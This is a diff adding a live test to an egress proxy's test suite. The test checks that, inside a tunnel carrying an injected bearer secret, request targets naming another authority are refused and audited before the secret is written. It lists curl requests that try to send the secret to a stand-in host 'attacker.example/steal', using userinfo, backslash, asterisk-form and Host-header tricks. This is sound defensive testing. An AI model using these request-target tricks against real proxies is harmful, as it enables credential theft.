@@ -28,6 +28,7 @@ import { removeSandbox } from "../lib/lifecycle/fleet.ts";
 import { homeEgress, recordedLaunch } from "../lib/egress/launch.ts";
 import { identityPaths } from "../lib/egress/paths.ts";
 import { lexists } from "../lib/fs.ts";
+import type { EgressAuditLine } from "../lib/egress/audit.ts";
 
 const CURL = "curl -sS --max-time 20";
 const UPSTREAM_API = "api.test";
@@ -269,6 +270,122 @@ liveTest(
       assert.ok(
         Number(present.stdout.trim()) > 0,
         "the placeholder is in the runner's environment",
+      );
+    } finally {
+      Deno.env.delete(SECRET_ENV);
+    }
+  },
+);
+
+// Request targets that name an authority other than the tunnel's (or none):
+// each must be refused inside the tunnel, before the secret is written.
+const FOREIGN_TARGETS = (port: number): [string, string][] => [
+  ["http://attacker.example/steal?x=1", ""],
+  [`https://attacker.example:${port}/steal`, ""],
+  [`https://secret.test.attacker.example:${port}/steal`, ""],
+  ["https://secret.test/steal", ""], // port 443, not the tunnel's
+  [`http://secret.test:${port}/steal`, ""], // not https, in a TLS tunnel
+  [`https://x@secret.test:${port}/steal`, ""], // userinfo
+  [`https://[::1]:${port}/steal`, ""],
+  ["//attacker.example/steal", ""], // origin-form some servers read as an authority
+  ["/\\attacker.example/steal", ""], // the same, with a backslash
+  ["*", "-X OPTIONS"], // asterisk-form
+  [`secret.test:${port}`, "-X CONNECT"], // authority-form
+  ["/steal", "-H 'Host: attacker.example'"], // origin-form, another Host
+  ["/steal", "-H 'Host: secret.test'"], // origin-form, Host of port 443
+];
+
+// Shell-quotes a word for sh.
+const quoted = (word: string): string => `'${word.replaceAll("'", `'"'"'`)}'`;
+
+liveTest(
+  "inside a secret's tunnel a request naming another authority is refused (403, audited denied) before the secret is written; a matching absolute form goes upstream in origin form, as a command and as the runner",
+  async (docker) => {
+    Deno.env.set(SECRET_ENV, SECRET_VALUE);
+    try {
+      await using world = await egressHome(docker, {
+        config: (w) => ({
+          egress: [w.entry("secret")],
+          secrets: ["gh"],
+          extra: [
+            "[secrets.gh]",
+            `from_env = "${SECRET_ENV}"`,
+            `hosts = ["secret.test"]`,
+            `header = "Authorization"`,
+            `format = "Bearer {}"`,
+          ].join("\n"),
+        }),
+      });
+      const victim = world.upstreams.secret;
+      const port = victim.port;
+      const url = `https://secret.test:${port}/`;
+      const sandbox = world.home.open(uniqueUser("target"));
+      // curl as the issue's attack has it: the bare placeholder, which the proxy writes as `Bearer {}`.
+      const request = (target: string, extra: string, via = "") =>
+        `${CURL} ${via} -o /dev/null -w '%{http_code}\\n' --request-target ${
+          quoted(target)
+        } -H "Authorization: $${SECRET_ENV}" ${extra} ${url} 2>/dev/null; true`;
+      const foreign = FOREIGN_TARGETS(port);
+      const asCommand = await sh(sandbox, foreign.map(([t, x]) => request(t, x)).join("; "));
+      assert.equal(asCommand.code, 0, asCommand.stderr);
+      // The runner (docker exec -u 0) has no proxy variables of a command's:
+      // it names the proxy and the CA bundle, and sends the placeholder it can read.
+      const placeholder = (await sh(sandbox, `printf %s "$${SECRET_ENV}"`)).stdout;
+      assert.match(placeholder, /^waffle_gh_[0-9a-f]{32}$/);
+      const runner = `${SECRET_ENV}=${placeholder}; CURL_CA_BUNDLE=/opt/waffle/ca/bundle.pem; ` +
+        `export ${SECRET_ENV} CURL_CA_BUNDLE; ` +
+        foreign.map(([t, x]) => request(t, x, "-x http://127.0.0.1:3128")).join("; ");
+      const asRunner = await asRoot(containerOf(sandbox), runner);
+      assert.equal(asRunner.code, 0, asRunner.stderr);
+
+      // The victim never saw the secret with a target that is not origin-form
+      // (on a shared front, the absolute form's authority would get it).
+      const leaked = victim.requests.filter((r) =>
+        JSON.stringify(r).includes(SECRET_VALUE) && !/^\/(?![/\\])/.test(r.path)
+      );
+      assert.deepEqual(
+        leaked.map((r) => `${r.method} ${r.path} (Host: ${r.headers.host})`),
+        [],
+        "the secret's host received the real secret with a foreign request target",
+      );
+      assert.equal(victim.requests.length, 0, "no refused request reached the secret's host");
+      const expected = foreign.map(() => "403").join("\n") + "\n";
+      assert.equal(asCommand.stdout, expected, "as a command");
+      assert.equal(asRunner.stdout, expected, "as the runner");
+      // One line per connection (a summary line stands for its count), written once both sides closed.
+      const audited = () => world.audit().filter((line) => line.destination === "secret.test");
+      const connections = (lines: EgressAuditLine[]) =>
+        lines.reduce((sum, line) => sum + (line.count ?? 1), 0);
+      await waitFor(() => connections(audited()) >= 2 * foreign.length, {
+        timeoutMs: 10_000,
+        what: "an audit line for every refusal",
+      });
+      const refused = audited();
+      assert.equal(connections(refused), 2 * foreign.length, JSON.stringify(refused));
+      for (const line of refused) {
+        assert.equal(line.decision, "denied", JSON.stringify(line));
+        assert.deepEqual(line.secrets, []);
+        assert.match(line.reason ?? "", /^Request (target|Host header) /, JSON.stringify(line));
+      }
+      assert.ok(
+        refused.some((line) =>
+          /'http:\/\/attacker\.example\/steal\?x=1' names 'attacker\.example:80', not this tunnel's 'secret\.test:\d+'/
+            .test(line.reason ?? "")
+        ),
+        refused.map((line) => line.reason).join("\n"),
+      );
+
+      // Matching absolute forms (any case, a trailing dot, the port given) go
+      // upstream in origin form, with the secret and the tunnel's Host.
+      const matching = [`https://secret.test:${port}/ok?x=1`, `HTTPS://Secret.TEST.:${port}/case`];
+      const sent = await sh(sandbox, matching.map((t) => request(t, "")).join("; "));
+      assert.equal(sent.stdout, "200\n200\n", sent.stderr);
+      assert.deepEqual(
+        victim.requests.map((r) => [r.path, r.headers.host, r.headers.authorization]),
+        [
+          ["/ok?x=1", `secret.test:${port}`, `Bearer ${SECRET_VALUE}`],
+          ["/case", `secret.test:${port}`, `Bearer ${SECRET_VALUE}`],
+        ],
       );
     } finally {
       Deno.env.delete(SECRET_ENV);
